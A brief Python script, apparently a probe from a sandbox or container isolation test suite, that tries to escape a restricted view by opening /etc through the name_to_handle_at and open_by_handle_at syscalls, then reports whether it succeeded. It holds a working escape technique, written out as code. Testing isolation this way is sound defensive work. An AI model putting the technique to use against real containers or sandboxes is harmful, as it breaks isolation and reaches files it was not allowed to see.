"""Wants files outside of its view by number: open_by_handle_at ignores paths and needs only a right."""

import ctypes
import errno
import os
import struct
from collections.abc import Callable


def attack(ready: Callable[[dict[str, object]], object]) -> dict[str, object]:
    libc = ctypes.CDLL(None, use_errno=True)
    name_to_handle, open_by_handle = {"x86_64": (303, 304), "aarch64": (264, 265)}[os.uname().machine]
    handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0), 136)
    ready({})
    if libc.syscall(name_to_handle, -100, b"/etc", handle, ctypes.byref(ctypes.c_int()), 0) < 0:
        return {"escaped": False, "detail": "no handle: " + errno.errorcode[ctypes.get_errno()]}
    root = os.open("/etc", os.O_RDONLY)
    if libc.syscall(open_by_handle, root, handle, os.O_RDONLY) < 0:
        return {"escaped": False, "detail": errno.errorcode[ctypes.get_errno()]}
    return {"escaped": True, "detail": "opened a folder by its handle"}


if __name__ == "__main__":
    __import__("_common").command(attack)
